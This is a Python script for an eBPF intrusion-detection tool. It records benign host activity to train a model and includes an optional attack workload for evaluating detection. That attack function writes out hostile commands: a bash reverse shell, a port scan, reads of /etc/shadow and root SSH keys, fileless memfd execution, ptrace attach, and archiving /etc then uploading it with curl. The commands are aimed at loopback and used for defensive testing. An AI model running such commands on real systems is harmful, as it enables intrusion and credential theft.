#!/usr/bin/env python3
"""Record benign host activity for training the default ONNX model, reproducibly.

    sudo .venv/bin/python scripts/record_benign.py --output benign.jsonl [--seconds 300] [--config FILE]

What it does:
1. creates a cgroup v2 group (/sys/fs/cgroup[/unified]/ravn-benign-<pid>) and notes its id (the inode number, which is
   what the probes report as ``proc.cgroup``);
2. starts ``ravn record`` with the given config (default: config/ravn.yaml's four probes, analyzers off), in
   the root cgroup, writing every event of the host to a raw file;
3. runs the benign workload below, round after round with varying inputs, in a shell placed in that cgroup
   (so every process it starts is in it): compile and run C with gcc and make, git (init, commit, branch,
   merge, log, diff, clone, gc), tar/gzip/xz, Python scripts (json, hashlib, sqlite3, a loopback HTTP server
   and client), pip queries, ssh-keygen, dpkg/apt-cache queries, a unittest suite, coreutils/findutils/sed/awk
   pipelines, perl, sqlite3;
4. stops the recorder and keeps only the events of processes in the workload's cgroup (the host may be busy
   with other things, which are not part of the training data).

Needs root (the probes) and the tools named above; a missing tool only skips its commands.
"""

from __future__ import annotations

import argparse
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]

RECORD_CONFIG = """\
ravn:
  state_dir: {state}
  log_level: warning
  http_listen: ""
sources:
  - {{plugin: ebpf_syscall, ring_buffer_kb: 8192, filters: {{exclude_comms: {noise}}}}}
  - {{plugin: ebpf_network, ring_buffer_kb: 8192, filters: {{exclude_comms: {noise}}}}}
  - {{plugin: ebpf_security, ring_buffer_kb: 8192, filters: {{exclude_comms: {noise}}}}}
  - {{plugin: ebpf_file, ring_buffer_kb: 8192, filters: {{exclude_comms: {noise}}}}}
transport:
  plugin: embedded
analyzers: []
sinks:
  - plugin: stdout
    min_level: HIGH
"""

C_SOURCE = r"""
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
int cmp(const void *a, const void *b) { return (*(const int *)a - *(const int *)b); }
int main(int argc, char **argv) {
    int n = argc > 1 ? atoi(argv[1]) : 1000;
    int *v = malloc(sizeof(int) * n);
    for (int i = 0; i < n; i++) v[i] = (i * 7919) % (n + 13);
    qsort(v, n, sizeof(int), cmp);
    FILE *f = fopen("out.txt", "w");
    if (!f) return 1;
    for (int i = 0; i < n; i += n / 10 + 1) fprintf(f, "%d\n", v[i]);
    fclose(f);
    printf("%s sorted %d\n", argv[0], n);
    free(v);
    return 0;
}
"""

MAKEFILE = "all: prog\nprog: prog.c\n\tcc -O2 -o prog prog.c\nclean:\n\trm -f prog out.txt\n"

UNITTEST = """
import json, unittest, hashlib
class T(unittest.TestCase):
    def test_json(self):
        self.assertEqual(json.loads(json.dumps({"a": [1, 2]})), {"a": [1, 2]})
    def test_hash(self):
        self.assertEqual(len(hashlib.sha256(b"x" * {n}).hexdigest()), 64)
    def test_files(self):
        import os, tempfile
        with tempfile.NamedTemporaryFile("w", delete=False) as f:
            f.write("data")
        self.assertTrue(os.path.getsize(f.name) == 4)
        os.unlink(f.name)
if __name__ == "__main__":
    unittest.main()
"""

PY_HTTP = """
import http.server, threading, urllib.request, socketserver
class H(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *a): pass
with socketserver.TCPServer(("127.0.0.1", 0), H) as srv:
    port = srv.server_address[1]
    t = threading.Thread(target=srv.serve_forever, daemon=True); t.start()
    for _ in range({n}):
        urllib.request.urlopen(f"http://127.0.0.1:{{port}}/").read()
    srv.shutdown()
print("http ok")
"""

PY_DATA = """
import json, hashlib, sqlite3, os, csv, random
random.seed({n})
rows = [{{"id": i, "v": random.random()}} for i in range({n} * 10)]
open("data.json", "w").write(json.dumps(rows))
db = sqlite3.connect("data.db"); db.execute("create table if not exists t (id int, v real)")
db.executemany("insert into t values (:id, :v)", rows); db.commit()
print(db.execute("select count(*), avg(v) from t").fetchone())
with open("data.csv", "w", newline="") as f:
    w = csv.writer(f); [w.writerow([r["id"], r["v"]]) for r in rows]
print(hashlib.sha256(open("data.csv", "rb").read()).hexdigest())
for name in os.listdir("."):
    os.stat(name)
"""


def workload(round_no: int, rng: random.Random, py: str) -> list[str]:
    """Shell commands of one round (run in a fresh temp dir)."""
    n = rng.randint(50, 500)
    cmds = [
        # C toolchain
        f"cat > prog.c <<'EOF'\n{C_SOURCE}\nEOF",
        f"printf '{MAKEFILE.encode('unicode_escape').decode()}' > Makefile && make -s && ./prog {n} && make -s clean",
        f"cc -O{rng.randint(0, 2)} -o p2 prog.c && ./p2 {n * 3} >/dev/null && strip p2 && ls -la p2 && rm -f p2",
        # git
        "git init -q repo && cd repo && git config user.email t@example.org && git config user.name t"
        f" && for i in $(seq 1 {rng.randint(2, 6)}); do echo line$i >> f.txt; git add f.txt;"
        " git commit -qm c$i; done && git log --oneline | wc -l && git branch feature && git checkout -q feature"
        " && echo x >> f.txt && git commit -qam x && git checkout -q - && git merge -q feature"
        " && git diff HEAD~1 --stat && git status --short && git gc -q && cd .. && git clone -q repo clone"
        " && git -C clone log -1 --format=%H && rm -rf repo clone",
        # archives
        f"mkdir -p tree/a tree/b && seq 1 {n * 20} > tree/a/nums && cp /etc/hostname tree/b/ 2>/dev/null;"
        " tar czf t.tgz tree && tar tzf t.tgz >/dev/null && mkdir x && tar xzf t.tgz -C x"
        " && gzip -k tree/a/nums && gunzip -c tree/a/nums.gz | wc -l && xz -k tree/a/nums && xz -dc tree/a/nums.xz"
        " | tail -1 && rm -rf tree x t.tgz",
        # python
        f"{py} - <<'EOF'\n{PY_DATA.format(n=n)}\nEOF",
        f"{py} - <<'EOF'\n{PY_HTTP.format(n=rng.randint(1, 5))}\nEOF",
        f"cat > test_x.py <<'EOF'\n{UNITTEST.replace('{n}', str(n))}\nEOF\n{py} -m unittest -q test_x 2>&1 | tail -1",
        f"{py} -c 'import sys, platform; print(platform.platform(), sys.version_info[:2])'",
        # package queries
        f"{py} -m pip list 2>/dev/null | head -5",
        f"{py} -m pip show pip 2>/dev/null | head -2",
        "dpkg -l | head -20 | wc -l; dpkg -S /bin/ls | head -1; apt-cache policy bash | head -3",
        # keys
        "ssh-keygen -q -t ed25519 -N '' -f key && ssh-keygen -l -f key.pub && rm -f key key.pub",
        # text tools
        f"seq 1 {n} | awk '{{s+=$1}} END {{print s}}'; seq 1 {n} | sort -r | uniq | head -3;"
        " grep -r -l root /etc/passwd /etc/group 2>/dev/null; sed -n 1,3p /etc/os-release",
        "find . -maxdepth 2 -type f | xargs -r wc -c | tail -1; du -sh . ; ls -la | wc -l",
        "mkdir -p d1 && cp data.json d1/ && mv d1/data.json d1/moved.json && ln -s moved.json d1/link"
        " && chmod 600 d1/moved.json && stat -c %a d1/moved.json && rm -rf d1",
        "perl -e 'my %h; $h{$_ % 7}++ for 1..1000; print join(\",\", map {\"$_=$h{$_}\"} sort keys %h), \"\\n\"'",
        "sqlite3 data.db 'select count(*) from t;' 2>/dev/null || true",
        "id; whoami; uname -r; date -u +%s; ps -e | wc -l; df -h / | tail -1; free -m | head -2",
        "for i in 1 2 3; do (echo sub$i; sleep 0.05) & done; wait",
        "curl -s -o /dev/null -w '%{http_code}\\n' http://127.0.0.1:1/ || true",
        "sleep 0.2",
    ]
    rest = cmds[4:]
    rng.shuffle(rest)  # vary the order of all but the C toolchain and git steps
    return cmds[:4] + rest


ATTACK_PY_LISTENER = """
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", {port})); s.listen(1); s.settimeout(20)
c, _ = s.accept(); c.sendall(b"id; uname -a; cat /etc/passwd | head -3; exit\\n")
c.settimeout(5)
try:
    while c.recv(4096): pass
except OSError: pass
"""

ATTACK_MEMFD = """
import os
fd = os.memfd_create("x", 0)
os.write(fd, open("/bin/true", "rb").read())
pid = os.fork()
if pid == 0:
    os.execv(f"/proc/self/fd/{fd}", ["x"])
os.waitpid(pid, 0)
"""

ATTACK_PTRACE = """
import ctypes, os, subprocess, time
libc = ctypes.CDLL(None, use_errno=True)
p = subprocess.Popen(["sleep", "5"])
time.sleep(0.2)
libc.ptrace(16, p.pid, None, None)  # PTRACE_ATTACH
time.sleep(0.1)
libc.ptrace(17, p.pid, None, None)  # PTRACE_DETACH
p.kill(); p.wait()
"""


def attack_workload(round_no: int, rng: random.Random, py: str) -> list[str]:
    """Evaluation only, never training data: intrusion-like behaviour, on loopback and in the temp dir, undone
    at once. Reverse shell to a loopback listener, port scan of loopback, dropper run from /tmp, credential
    file reads, SUID search, fileless exec from a memfd, ptrace attach, unshare, staged archive of /etc."""
    port = 20000 + rng.randint(0, 20000)
    return [
        f"({py} - <<'EOF'\n{ATTACK_PY_LISTENER.format(port=port)}\nEOF\n) & sleep 0.5;"
        f" bash -c 'bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1'; wait",
        "for p in $(seq 1 200); do (echo > /dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true",
        "cp /bin/ls /tmp/.rvn_x$$ && chmod 4755 /tmp/.rvn_x$$ && /tmp/.rvn_x$$ / >/dev/null; rm -f /tmp/.rvn_x$$",
        "cat /etc/shadow >/dev/null; cat /root/.ssh/id_* 2>/dev/null; cat /etc/sudoers >/dev/null 2>&1",
        "find / -xdev -perm -4000 -type f 2>/dev/null | head -20 >/dev/null",
        f"{py} - <<'EOF'\n{ATTACK_MEMFD}\nEOF",
        f"{py} - <<'EOF'\n{ATTACK_PTRACE}\nEOF",
        "unshare -r id >/dev/null 2>&1; true",
        "tar czf /tmp/.rvn_etc$$.tgz /etc 2>/dev/null; curl -s -m 1 -T /tmp/.rvn_etc$$.tgz http://127.0.0.1:9/ ;"
        " rm -f /tmp/.rvn_etc$$.tgz; true",
    ]


def cgroup_create() -> tuple[Path, int]:
    for base in (Path("/sys/fs/cgroup"), Path("/sys/fs/cgroup/unified")):  # pure v2, or hybrid
        if (base / "cgroup.procs").exists() and (base / "cgroup.subtree_control").exists():
            break
    else:
        raise SystemExit("record_benign: no cgroup v2 hierarchy at /sys/fs/cgroup or /sys/fs/cgroup/unified")
    cg = base / f"ravn-benign-{os.getpid()}"
    cg.mkdir(exist_ok=True)
    return cg, os.stat(cg).st_ino


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--output", required=True, help="filtered events (JSON lines) for `ravn train`")
    ap.add_argument("--seconds", type=float, default=300, help="how long to run the workload")
    ap.add_argument("--config", default="", help="ravn config for recording (default: four probes, no analyzers)")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--attack", action="store_true",
                    help="run the intrusion-like workload instead (evaluation of a trained model; never train on it)")
    ap.add_argument("--keep-raw", action="store_true", help="keep the unfiltered recording and the recorder log")
    ap.add_argument("--exclude-comm", action="append", default=[],
                    help="comm of unrelated busy processes to filter in the kernel (less load, fewer drops; "
                         "their events would be dropped from the output anyway)")
    args = ap.parse_args()
    if os.geteuid() != 0:
        print("record_benign: run as root (the probes need it)", file=sys.stderr)
        return 3
    ravn = shutil.which("ravn") or str(ROOT / ".venv/bin/ravn")
    py = str(ROOT / ".venv/bin/python") if (ROOT / ".venv/bin/python").exists() else sys.executable
    work = Path(tempfile.mkdtemp(prefix="ravn-benign-"))
    cfg = Path(args.config) if args.config else work / "record.yaml"
    if not args.config:
        noise = json.dumps(args.exclude_comm)
        cfg.write_text(RECORD_CONFIG.format(state=work / "state", noise=noise))
    raw = work / "raw.jsonl"
    cg, cg_id = cgroup_create()
    print(f"record_benign: cgroup {cg} id {cg_id}; raw events in {raw}", file=sys.stderr)
    rec = subprocess.Popen([ravn, "record", "--config", str(cfg), "--output", str(raw),
                            "--duration", str(args.seconds + 120)], stderr=open(work / "record.log", "w"))
    try:
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and (not raw.exists() or raw.stat().st_size == 0):
            if rec.poll() is not None:
                print(f"record_benign: ravn record exited {rec.returncode}; see {work / 'record.log'}",
                      file=sys.stderr)
                return 1
            time.sleep(0.5)
        time.sleep(2)
        rng = random.Random(args.seed)
        end = time.monotonic() + args.seconds
        rounds = 0
        procs_file = cg / "cgroup.procs"
        while time.monotonic() < end:
            rounds += 1
            d = Path(tempfile.mkdtemp(prefix=f"round{rounds}-", dir=work))
            cmds = (attack_workload if args.attack else workload)(rounds, rng, py)
            script = "set +e\n" + "\n".join(cmds) + "\n"

            def enter_cgroup() -> None:
                procs_file.write_text(str(os.getpid()))

            subprocess.run(["bash", "-c", script], cwd=d, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                           preexec_fn=enter_cgroup, timeout=120, check=False)
            shutil.rmtree(d, ignore_errors=True)
        print(f"record_benign: {rounds} workload rounds in {args.seconds:.0f} s", file=sys.stderr)
        time.sleep(3)  # let the last summaries flush
    finally:
        rec.send_signal(signal.SIGINT)
        try:
            rec.wait(60)
        except subprocess.TimeoutExpired:
            rec.kill()
            rec.wait()
    kept = total = 0
    with open(raw, encoding="utf-8") as src, open(args.output, "w", encoding="utf-8") as dst:
        for line in src:
            total += 1
            try:
                ev = json.loads(line)
            except json.JSONDecodeError:
                continue
            if ev.get("proc.cgroup") == cg_id:
                dst.write(line)
                kept += 1
    try:
        cg.rmdir()
    except OSError:
        pass
    if not args.keep_raw:
        shutil.rmtree(work, ignore_errors=True)
    print(f"record_benign: kept {kept} of {total} events (the workload's cgroup) -> {args.output}",
          file=sys.stderr)
    return 0 if kept else 1


if __name__ == "__main__":
    raise SystemExit(main())
